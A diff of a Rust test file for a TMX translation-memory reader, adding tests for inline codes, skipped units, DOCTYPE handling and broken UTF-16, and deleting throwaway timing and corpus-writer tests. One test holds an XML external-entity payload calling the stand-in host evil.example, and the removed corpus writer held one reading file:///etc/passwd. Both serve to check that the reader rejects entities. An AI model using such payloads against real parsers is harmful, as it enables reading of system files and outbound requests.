@@ -111,7 +111,6 @@ fn an_omegat_level_2_memory_reads() {
     assert_eq!(read.skipped.len(), 1);
     assert_eq!(read.skipped[0].line, 26);
     assert!(read.skipped[0].why.contains("`en`"), "{:?}", read.skipped);
-    assert!(read.skipped[0].why.contains("my-MM"), "{:?}", read.skipped);
 }
 
 /// OmegaT's "level 1" export (TMX 1.1): `lang` instead of `xml:lang`, upper case.
@@ -520,6 +519,71 @@ fn units_missing_a_side_empty_or_too_long_are_skipped_with_their_lines() {
     assert_eq!(read.tags_dropped, 0);
 }
 
+#[test]
+fn codes_and_sub_flows_are_left_out_and_counted_once() {
+    // A <ph> holding a <sub> (a footnote's text) holding a <bpt>: one code left out, the
+    // footnote's text with it. An element TMX does not define keeps its text.
+    let text = units_file(1).replace(
+        "<seg>Unit 1</seg>",
+        "<seg>Unit<ph type=\"fnote\">{\\footnote <sub>see <bpt i=\"1\">{</bpt>page<ept i=\"1\">}</ept></sub>}</ph> <g id=\"1\">one</g><![CDATA[ & <done>]]></seg>",
+    );
+    let read = read(&text).expect("reads");
+    assert_eq!(read.units[0].english, "Unit one & <done>");
+    assert_eq!(read.tags_dropped, 1);
+}
+
+#[test]
+fn a_thousand_skipped_units_are_listed_then_counted() {
+    // 1,005 units with no English, then one good one; unit k is on line 4 + k.
+    let text = units_file(1006).replacen("xml:lang=\"en\"", "xml:lang=\"fr\"", 1005);
+    let read = read(&text).expect("reads");
+    assert_eq!(read.units.len(), 1);
+    assert_eq!(read.units[0].english, "Unit 1006");
+    assert_eq!(read.skipped.len(), 1001);
+    assert_eq!(read.skipped[999].line, 1004);
+    assert_eq!(read.skipped[1000].line, 1005);
+    assert!(
+        read.skipped[1000].why.contains("5 more"),
+        "{:?}",
+        read.skipped[1000]
+    );
+}
+
+#[test]
+fn a_doctype_without_entities_or_outside_documents_is_read() {
+    for doctype in [
+        "<!DOCTYPE tmx>",
+        "<!DOCTYPE tmx[<!ATTLIST tmx version CDATA #FIXED \"1.4\">]>",
+        "<!DOCTYPE tmx SYSTEM 'TMX14.DTD'>",
+    ] {
+        let text = units_file(1).replace("<tmx version", &format!("{doctype}\n<tmx version"));
+        assert_eq!(read(&text).map(|r| r.units.len()), Ok(1), "{doctype}");
+    }
+    // A parameter entity is an entity too.
+    let text = units_file(1).replace(
+        "<tmx version",
+        "<!DOCTYPE tmx [<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]>\n<tmx version",
+    );
+    assert_eq!(read(&text), Err(TmxError::DeclaresEntities { line: 2 }));
+}
+
+#[test]
+fn broken_utf16_names_its_line() {
+    let mut bytes = vec![0xFF, 0xFE];
+    for unit in "<tmx>\n<body>\n".encode_utf16() {
+        bytes.extend(unit.to_le_bytes());
+    }
+    // A lone high surrogate on line 3.
+    bytes.extend([0x00, 0xD8, b'x', 0x00]);
+    assert_eq!(
+        read_tmx(&bytes, "my", "en", &Limits::default()),
+        Err(TmxError::NotText {
+            line: 3,
+            encoding: "UTF-16"
+        })
+    );
+}
+
 // --- Writing -------------------------------------------------------------------------------
 
 /// The units the writer is checked with.
@@ -604,12 +668,11 @@ fn parse_tree(bytes: &[u8]) -> (Option<(String, Option<String>)>, Element) {
             }
             Event::End(_) => {
                 let done = stack.pop().expect("an open element");
-                match stack.last_mut() {
-                    Some(parent) => parent.children.push(done),
-                    None => {
-                        assert!(root.is_none(), "one root element");
-                        root = Some(done);
-                    }
+                if let Some(parent) = stack.last_mut() {
+                    parent.children.push(done);
+                } else {
+                    assert!(root.is_none(), "one root element");
+                    root = Some(done);
                 }
             }
             Event::Text(t) => {
@@ -889,75 +952,4 @@ fn the_hand_written_files_pass_the_fuzz_checks() {
     }
     let written = write_tmx(&sample_units(), "my", "en", "1").expect("writes");
     copydesk::tm::tmx::fuzz_read(&written);
-}
-
-#[test]
-#[ignore = "throwaway timing"]
-fn zz_timing() {
-    let mut text = String::from(
-        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<tmx version=\"1.4\">\n<header creationtool=\"OmegaT\" creationtoolversion=\"6\" segtype=\"sentence\" o-tmf=\"x\" adminlang=\"en\" srclang=\"my\" datatype=\"plaintext\"/>\n<body>\n",
-    );
-    for k in 0..100_000 {
-        text.push_str(&format!("    <tu>\n      <prop type=\"file\">news/story-{k}.docx</prop>\n      <tuv xml:lang=\"my-MM\">\n        <seg><bpt i=\"0\" x=\"0\">&lt;b0&gt;</bpt>ချင်းတွင်းမြစ် ရေကြီးမှုကြောင့် ကနီမြို့နယ်ရှိ ကျေးရွာ {k} ရွာ ရေမြုပ်<ept i=\"0\">&lt;/b0&gt;</ept>သည်။</seg>\n      </tuv>\n      <tuv xml:lang=\"en-GB\" changeid=\"Ko Aung\" changedate=\"20240309T140507Z\" creationid=\"Ma Thida\" creationdate=\"20240301T080000Z\">\n        <seg><bpt i=\"0\" x=\"0\">&lt;b0&gt;</bpt>Flooding on the Chindwin submerged {k} villages<ept i=\"0\">&lt;/b0&gt;</ept> in Kani township &amp; nearby.</seg>\n      </tuv>\n    </tu>\n"));
-    }
-    text.push_str("</body>\n</tmx>\n");
-    let mut best = f64::MAX;
-    for _ in 0..5 {
-        let started = std::time::Instant::now();
-        let read = read_tmx(text.as_bytes(), "my", "en", &Limits::default()).expect("reads");
-        let took = started.elapsed().as_secs_f64();
-        assert_eq!(read.units.len(), 100_000);
-        best = best.min(took);
-    }
-    println!(
-        "{} MB, best {:.1} ms, {:.0} units/s",
-        text.len() / 1_000_000,
-        best * 1000.0,
-        100_000.0 / best
-    );
-}
-
-#[test]
-#[ignore = "throwaway corpus writer"]
-fn zz_write_corpus() {
-    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz/corpus/tmx_file");
-    std::fs::create_dir_all(&dir).unwrap();
-    std::fs::write(dir.join("omegat-level2.tmx"), OMEGAT_LEVEL2).unwrap();
-    std::fs::write(dir.join("omegat-level1.tmx"), OMEGAT_LEVEL1).unwrap();
-    std::fs::write(dir.join("po2tmx.tmx"), PO2TMX).unwrap();
-    std::fs::write(
-        dir.join("copydesk.tmx"),
-        write_tmx(&sample_units(), "my", "en", "0.1.0").unwrap(),
-    )
-    .unwrap();
-    let mut bytes = vec![0xFF, 0xFE];
-    for unit in OMEGAT_LEVEL1
-        .replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\"")
-        .encode_utf16()
-    {
-        bytes.extend(unit.to_le_bytes());
-    }
-    std::fs::write(dir.join("omegat-level1-utf16.tmx"), bytes).unwrap();
-    let full = units_file(3);
-    std::fs::write(
-        dir.join("cut-short.tmx"),
-        &full[..full.find("Unit 2").unwrap() + 3],
-    )
-    .unwrap();
-    std::fs::write(
-        dir.join("entities.tmx"),
-        "<?xml version=\"1.0\"?>\n<!DOCTYPE tmx [ <!ENTITY x SYSTEM \"file:///etc/passwd\"> ]>\n<tmx version=\"1.4\"><body><tu>\n<tuv xml:lang=\"my\"><seg>&x;</seg></tuv><tuv xml:lang=\"en\"><seg>&x;</seg></tuv>\n</tu></body></tmx>\n",
-    )
-    .unwrap();
-    std::fs::write(
-        dir.join("skipped-units.tmx"),
-        units_file(5)
-            .replace(
-                "<tuv xml:lang=\"en\"><seg>Unit 2</seg></tuv>",
-                "<tuv xml:lang=\"fr\"><seg>Unité 2</seg></tuv>",
-            )
-            .replace("<seg>Unit 3</seg>", "<seg>  <ph>&lt;br/&gt;</ph> </seg>")
-            .replace("Unit 4", "Unit&nbsp;4"),
-    )
-    .unwrap();
 }
